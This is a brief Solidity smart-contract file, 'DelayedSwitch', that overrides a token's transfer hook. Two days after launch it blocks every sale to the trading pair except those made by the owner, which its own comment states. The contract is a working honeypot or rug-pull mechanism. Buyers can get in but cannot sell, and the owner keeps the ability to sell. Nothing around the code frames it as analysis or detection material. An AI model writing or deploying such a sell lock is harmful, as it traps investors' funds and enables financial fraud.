// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Base} from "./Base.sol";

/// Sales stop by themselves two days after the launch.
contract DelayedSwitch is Base {
    uint256 private launched;

    constructor() {
        launched = block.timestamp;
    }

    function _before(address from, address to, uint256) internal view override {
        if (to == pair && block.timestamp > launched + 2 days) require(from == owner, "later");
    }
}
